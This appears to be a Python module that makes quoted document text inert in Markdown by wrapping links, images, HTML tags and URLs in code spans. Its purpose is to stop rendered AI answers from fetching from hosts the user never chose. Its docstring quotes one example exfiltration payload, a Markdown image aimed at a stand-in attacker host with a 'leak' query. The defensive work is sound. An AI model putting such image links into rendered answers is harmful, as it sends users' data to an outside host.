"""Quoted text made inert for Markdown: what a document says about images, HTML and links shows as plain text.

A document is data. Quoted into an answer, `![i](http://attacker.example/leak?q=...)`, `<img src=...>` or a
bare `https://...` would become a live image, element or link in any client that renders the answer as Markdown
(the chat window, Open WebUI over the API): the browser would fetch from, or link to, a host the user never
chose. `inert_markdown` wraps each such construct in a code span, where Markdown renders it character for
character, and escapes stray backticks so that no code span opens or closes anywhere else. Markdown that the
app writes around quoted text (list dashes, **labels**, [n] markers) is added after this step and stays live; a
link in quoted text to the app's own files (a relative URL, `gradio_api/file=...`) stays a link.

Pure: a string in, a string out.
"""

from __future__ import annotations

import re

_LINK = re.compile(
    r"(?P<bang>!?)\[[^\[\]\n]{0,500}\]"
    r"(?:\(\s*(?P<dest>[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)(?:\s+[^)\n]*)?\)|(?P<ref>\[[^\[\]\n]{0,500}\]))?"
)
"""A Markdown image or link: inline `[a](dest "title")`, reference `[a][r]` or `![r]`; a bare `[a]` is text."""
_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,500}\]:[ \t]*\S*", re.M)
"""A reference definition `[r]: http://...` at the start of a line, which would make `[a][r]` live."""
_TAG = re.compile(r"<[A-Za-z/!?][^<>\n]*>?")
"""An HTML tag, comment, declaration or autolink (`<img ...>`, `</a>`, `<!-- -->`, `<http://...>`), closed or not
(an unclosed one could close in the next quoted sentence)."""
_URL = re.compile(r"(?:\b(?:https?|ftp)://|\bwww\.)[^\s<>`]*", re.I)
"""A URL that a Markdown renderer links on its own (GitHub-flavoured autolinks)."""
_TRAILING = re.compile(r"[.,;:!?'\"*_~)\]]+$")
_LOCAL_DEST = re.compile(r"(?:\.{0,2}/)?(?![/\\])[\w\-.~/=%+]*(?:[?#][\w\-.~/=%+&;]*)?")
"""A destination on the app's own origin: a relative path (`gradio_api/file=...`, `./a.pdf#page=2`), no scheme,
no host (`//host`), no backslash (browsers read `/\\host` as `//host`)."""
_BACKTICKS = re.compile(r"`+")
_ESCAPED_BACKTICK = re.compile(r"(\\*)`")


def inert_markdown(text: str) -> str:
    """Text as Markdown that shows every image, HTML construct and link to another host as the characters it
    is made of, and that loads nothing."""
    spans = _live_spans(text)
    if not spans and "`" not in text:
        return text
    out: list[str] = []
    pos = 0
    for start, end in spans:
        out.append(_escape_backticks(text[pos:start]))
        out.append(code_span(text[start:end]))
        pos = end
    out.append(_escape_backticks(text[pos:]))
    return "".join(out)


def code_span(text: str) -> str:
    """Text as a Markdown code span, fenced with more backticks than it holds in a row."""
    longest = max((len(m.group(0)) for m in _BACKTICKS.finditer(text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or (text.startswith(" ") and text.endswith(" ")) else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _escape_backticks(text: str) -> str:
    """Each backtick shown as itself (a backslash before it stays a backslash)."""
    return _ESCAPED_BACKTICK.sub(lambda m: m.group(1) * 2 + "\\`", text)


def _live_spans(text: str) -> list[tuple[int, int]]:
    """Sorted, merged character spans of text that a Markdown renderer would turn into something live."""
    spans: list[tuple[int, int]] = []
    for match in _LINK.finditer(text):
        dest, ref = match.group("dest"), match.group("ref")
        if dest is None and ref is None and not match.group("bang"):
            continue  # "[1]", "[sic]": text, since no definition survives (_DEFINITION)
        if match.group("bang") or dest is None or not _LOCAL_DEST.fullmatch(dest):
            spans.append(match.span())
    spans.extend(m.span() for m in _DEFINITION.finditer(text))
    spans.extend(m.span() for m in _TAG.finditer(text))
    for match in _URL.finditer(text):
        tail = _TRAILING.search(match.group(0))
        end = match.end() - (len(tail.group(0)) if tail else 0)
        if end > match.start():
            spans.append((match.start(), end))
    merged: list[tuple[int, int]] = []
    for start, end in sorted(spans):
        if merged and start <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(end, merged[-1][1]))
        else:
            merged.append((start, end))
    return merged


_INLINE_SYNTAX = re.compile(r"([\\`*_\[\]<>|~&])")
"""Characters that make emphasis, code, links, HTML, tables, strikethrough or entities anywhere in a line."""
_LINE_SYNTAX = re.compile(r"^([ \t]*)([#>+\-=]|\d{1,9}[.)])", re.M)
"""A heading, quote, list or setext marker where a line starts."""
_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?!`)((?:(?!\n[ \t]*\n).)+?)(?<!`)\1(?!`)", re.S)
"""A code span that Markdown renders as written (a run of backticks closed by a run of the same length)."""


def literal_markdown(text: str) -> str:
    """Text as Markdown that shows exactly these characters: no emphasis, heading, list, link, image or HTML.

    Links, URLs and HTML become code spans (as in `inert_markdown`); every other character Markdown could read
    as syntax is backslash-escaped. For a document's quoted passage or a user's question in a Markdown file.
    """
    out: list[str] = []
    pos = 0
    for start, end in _live_spans(text):
        out.append(_escape_syntax(text[pos:start]))
        out.append(code_span(text[start:end]))
        pos = end
    out.append(_escape_syntax(text[pos:]))
    return _LINE_SYNTAX.sub(_escape_line_start, "".join(out))


def _escape_syntax(text: str) -> str:
    return _INLINE_SYNTAX.sub(r"\\\1", text)


def _escape_line_start(match: re.Match[str]) -> str:
    """`# x` -> `\\# x`, `2. x` -> `2\\. x`: the marker shown as text."""
    indent, marker = match.group(1), match.group(2)
    return f"{indent}{marker[:-1]}\\{marker[-1]}"


def inert_outside_code(markdown: str) -> str:
    """Markdown written by the app (an answer) with anything live made inert, code spans left as they are.

    `inert_markdown` wraps live constructs in code spans; run on its own output it would wrap them again, so
    the code spans an answer already holds are kept and only the text between them is made inert.
    """
    out: list[str] = []
    pos = 0
    for match in _CODE_SPAN.finditer(markdown):
        out.append(inert_markdown(markdown[pos : match.start()]))
        out.append(match.group(0))
        pos = match.end()
    out.append(inert_markdown(markdown[pos:]))
    return "".join(out)
